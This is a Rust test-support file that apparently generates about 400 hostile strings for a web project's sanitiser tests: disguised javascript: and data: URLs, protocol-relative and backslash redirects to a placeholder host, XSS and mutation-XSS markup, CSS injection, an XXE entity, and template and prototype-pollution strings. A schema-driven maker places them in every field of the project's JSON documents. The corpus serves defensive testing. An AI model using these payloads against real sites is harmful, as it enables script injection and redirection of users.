//! Hostile data: addresses and markup that try to run a script or to reach another host, and files of the contract that
//! have them in every field.

use std::{fs, path::Path};

use gazette_model::UiText;
use serde_json::{Map, Value, json};

/// Schemes that a page must not follow or load.
const SCHEMES: [&str; 13] = [
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "data:text/html;base64,",
    "blob:",
    "filesystem:",
    "view-source:",
    "file://",
    "about:",
    "intent:",
    "ws://",
];

/// Addresses that they lead to; `HOST` is a host that nobody may ask for anything.
const ENDS: [&str; 2] = ["window.hacked=1", "//HOST/%0Awindow.hacked=1"];

/// Forms in which browsers, filters and people read addresses: `S` is the scheme, `E` the rest.
const DISGUISES: [&str; 10] = [
    "SE",
    " SE",
    "\u{1}SE",
    "\t\nSE",
    "\u{feff}SE",
    "\u{a0}SE",
    "SE#/news/",
    "/news/\"><a href=\"SE\">",
    "/a.png 1x, SE 2x",
    "/a.png,SE",
];

/// Addresses of another host, schemes in disguise, and markup.
const OTHERS: [&str; 47] = [
    "//HOST/1",
    "/\\HOST/2",
    "\\\\HOST/3",
    "\\/HOST/4",
    "///HOST/5",
    "////HOST/6",
    "/\t/HOST/7",
    "\n//HOST/8",
    " //HOST/9",
    "\u{1}//HOST/10",
    "http://HOST/11",
    "HTTP://HOST/12",
    "http:\\\\HOST/13",
    "http:/\\HOST/14",
    "http:////HOST/15",
    "http:HOST/16",
    "http:/HOST/17",
    "//user:pass@HOST/18",
    "http://127.0.0.1@HOST/19",
    "/a 1x, //HOST/20 2x",
    "/a,//HOST/21",
    "/a 1w,\\\\HOST/22 2w",
    "http://HOST/23 1x, /a 2x",
    "/%09/HOST/24",
    "/\r/HOST/25",
    "/\\\t/HOST/26",
    "ht\ttp://HOST/27",
    "h\nttp://HOST/28",
    "jav\tascript:window.hacked=1",
    "java\nscript:window.hacked=1",
    "java\rscript:window.hacked=1",
    "JaVaScRiPt:window.hacked=1",
    "\u{0}javascript:window.hacked=1",
    "\u{1f}\u{20}javascript:window.hacked=1",
    "javascript\t:window.hacked=1",
    "&#106;avascript:window.hacked=1",
    "%6aavascript:window.hacked=1",
    "feed:javascript:window.hacked=1",
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "\"><img src=\"//HOST/39\" onerror=\"window.hacked=1\">",
    "' onfocus='window.hacked=1' autofocus='",
    "<svg onload=window.hacked=1>",
    "<iframe srcdoc='<script>parent.hacked=1</script>'>",
    "</title><script>window.hacked=1</script>",
    "--><script>window.hacked=1</script>",
    "{{constructor.constructor('window.hacked=1')()}}",
];

/// Markup and names of public kinds: what parsers mend into something else, other namespaces, styles, and names that hide those of
/// a page or of every object.
const KINDS: [&str; 90] = [
    "\u{ff4a}avascript:window.hacked=1",
    "java\u{17f}cript:window.hacked=1",
    "javascr\u{131}pt:window.hacked=1",
    "j\u{430}vascript:window.hacked=1",
    "javascript\u{ff1a}window.hacked=1",
    "java\u{200b}script:window.hacked=1",
    "java\u{ad}script:window.hacked=1",
    "\u{202e}javascript:window.hacked=1",
    "java\u{0}script:window.hacked=1",
    "javascript&colon;window.hacked=1",
    "javascript&#x3a;window.hacked=1",
    "&#x6A;&#x61;vascript:window.hacked=1",
    "jav&Tab;ascript:window.hacked=1",
    "java&NewLine;script:window.hacked=1",
    "java%0ascript:window.hacked=1",
    "javascript://HOST/%0Awindow.hacked=1//",
    "javascript:/*--></title></style></textarea></script><svg onload=window.hacked=1>",
    "jar:http://HOST/a!/b",
    "data:;base64,PHNjcmlwdD5wYXJlbnQuaGFja2VkPTE8L3NjcmlwdD4=",
    "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>parent.hacked=1</script></html>",
    "blob:http://HOST/0b2a",
    "filesystem:http://HOST/temporary/a",
    "view-source:http://HOST/",
    "http://HOST%2f@example.org/",
    "http://example.org@HOST/",
    "http://\u{ff28}/",
    "\u{2215}\u{2215}HOST/look",
    "/\u{3002}/HOST/full",
    "/%2f/HOST/encoded",
    "/.//HOST/dots",
    "/a/..//HOST/up",
    ".//HOST/relative",
    "?next=//HOST/query",
    "#//HOST/fragment",
    "url(//HOST/style)",
    "background:url(javascript:window.hacked=1)",
    "@import '//HOST/style.css';",
    "expression(window.hacked=1)",
    "}</style><script>window.hacked=1</script>",
    "/a 100w, data:text/html,<script>parent.hacked=1</script> 200w",
    "/a(,//HOST/b) 2x",
    "<svg><script href='//HOST/s'></script></svg>",
    "<svg><a xlink:href='javascript:window.hacked=1'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:window.hacked=1 />",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=parent.hacked=1>#x'></svg>",
    "<svg><foreignObject><iframe src=//HOST/f></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hacked=1&gt;\">",
    "<math href='javascript:window.hacked=1'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=window.hacked=1></annotation-xml></math>",
    "<template><script>window.hacked=1</script></template>",
    "<template shadowrootmode=open><img src=x onerror=window.hacked=1></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.hacked=1>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=window.hacked=1>\">",
    "<select><option><style></option></select><b><style></style><img src=x onerror=window.hacked=1>",
    "<listing>&lt;img onerror=window.hacked=1 src=x&gt;</listing>",
    "<img src=`x`onerror=window.hacked=1>",
    "<a href=\"\u{1}javascript:window.hacked=1\">x</a>",
    "<base href=//HOST/>",
    "<meta http-equiv=refresh content=\"0;url=//HOST/\">",
    "<link rel=stylesheet href=//HOST/l.css>",
    "<object data=//HOST/o></object><embed src=//HOST/e>",
    "<form action=javascript:window.hacked=1><button>x</button></form>",
    "<button formaction=javascript:window.hacked=1>x</button>",
    "<input autofocus onfocus=window.hacked=1>",
    "<details open ontoggle=window.hacked=1>",
    "<video><source onerror=window.hacked=1></video>",
    "<portal src=//HOST/p></portal>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"//HOST/y\">]><x>&y;</x>",
    "<![CDATA[<script>window.hacked=1</script>]]>",
    "\u{fe64}script\u{fe65}window.hacked=1\u{fe64}/script\u{fe65}",
    "+ADw-script+AD4-window.hacked=1+ADw-/script+AD4-",
    "${window.hacked=1}",
    "</template></noscript><script>window.hacked=1</script>",
    "]]></script><script>window.hacked=1</script>",
    "\u{2028}window.hacked=1\u{2029}",
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "portal",
    "portal-failed",
    "portal-view",
    "search-field",
    "search-status",
    "reader-words",
    "location",
    "documentElement",
    "currentScript",
    "cookie",
    "attributes",
];

/// All of them: some 400. `host` is the other host, with its port.
pub fn payloads(host: &str) -> Vec<String> {
    let schemes = SCHEMES.iter().flat_map(|scheme| {
        ENDS.iter().flat_map(move |end| {
            let disguise = move |form: &&str| form.replace('S', scheme).replace('E', end);
            DISGUISES.iter().map(disguise)
        })
    });
    let others = OTHERS.iter().chain(&KINDS);
    let others = others.map(|other| (*other).to_owned());
    let all: Vec<String> = schemes
        .chain(others)
        .map(|payload| payload.replace("HOST", host))
        .collect();
    // A prime: lists of as many items have each of them in each field, however many fields an item has.
    assert_eq!(all.len(), 397);
    all
}

/// Makes values of a JSON Schema of this repository, with a text of one's own in each field that takes any text.
pub struct Maker<'a> {
    schema: Value,
    text: &'a mut dyn FnMut() -> String,
    /// The number of items of each list that lies in no other list.
    rows: usize,
    /// The variant to take where a schema has several.
    variant: usize,
    /// The number of elements so far: each has another tag.
    elements: usize,
}

impl<'a> Maker<'a> {
    /// Makes values of `schema/<name>.schema.json`.
    pub fn new(name: &str, rows: usize, text: &'a mut dyn FnMut() -> String) -> Self {
        let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("schema");
        let file = fs::read(folder.join(format!("{name}.schema.json"))).unwrap();
        Self {
            schema: serde_json::from_slice(&file).unwrap(),
            text,
            rows,
            variant: 0,
            elements: 0,
        }
    }

    /// A value of each variant that the schema has: a document of each kind.
    pub fn all(&mut self) -> Vec<Value> {
        let schema = self.schema.clone();
        let kinds = schema["$defs"]["Content"]["oneOf"].as_array();
        let kinds = kinds.map_or(1, Vec::len);
        let kind = |variant| {
            self.variant = variant;
            self.make(&schema, 0)
        };
        (0..kinds).map(kind).collect()
    }

    fn make(&mut self, schema: &Value, depth: usize) -> Value {
        if let Some(name) = schema["$ref"].as_str() {
            let name = name.trim_start_matches("#/$defs/");
            let named = self.schema["$defs"][name].clone();
            assert!(named.is_object(), "{name}");
            return self.make(&named, depth);
        }
        if let Some(names) = schema["enum"].as_array() {
            self.elements += 1;
            return names[self.elements % names.len()].clone();
        }
        if let Some(variants) = schema["oneOf"].as_array() {
            return self.make(&variants[self.variant], depth);
        }
        if let Some(variants) = schema["anyOf"].as_array() {
            return self.any_of(variants, depth);
        }
        if !schema["const"].is_null() {
            return schema["const"].clone();
        }
        let kind = match &schema["type"] {
            Value::Array(kinds) => kinds[0].as_str().unwrap().to_owned(),
            kind => kind
                .as_str()
                .unwrap_or_else(|| panic!("{schema}"))
                .to_owned(),
        };
        match kind.as_str() {
            "object" => self.object(schema, depth),
            "array" => {
                let rows = if depth == 0 { self.rows } else { 1 };
                let items = (0..rows).map(|_| self.make(&schema["items"], depth + 1));
                Value::Array(items.collect())
            }
            "string" => Value::String((self.text)()),
            "integer" => json!(1),
            _ => panic!("{schema}"),
        }
    }

    /// An optional value is there; a body is an element as long as it is not too deep.
    fn any_of(&mut self, variants: &[Value], depth: usize) -> Value {
        let is_text = |variant: &&Value| variant["type"] == "string";
        let is_there = |variant: &&Value| variant["type"] != "null";
        let text = variants.iter().find(is_text);
        let variant = match text {
            Some(text) if depth > 2 => text,
            Some(_) => variants.iter().find(|it| !is_text(it)).unwrap(),
            None => variants.iter().find(is_there).unwrap(),
        };
        self.make(variant, depth)
    }

    fn object(&mut self, schema: &Value, depth: usize) -> Value {
        let mut fields = Map::new();
        for (name, field) in schema["properties"].as_object().into_iter().flatten() {
            fields.insert(name.clone(), self.make(field, depth));
        }
        if schema["additionalProperties"]["type"] == "string" {
            for key in UiText::KEYS {
                fields.insert((*key).to_owned(), Value::String((self.text)()));
            }
        }
        assert!(!fields.is_empty(), "{schema}");
        Value::Object(fields)
    }
}
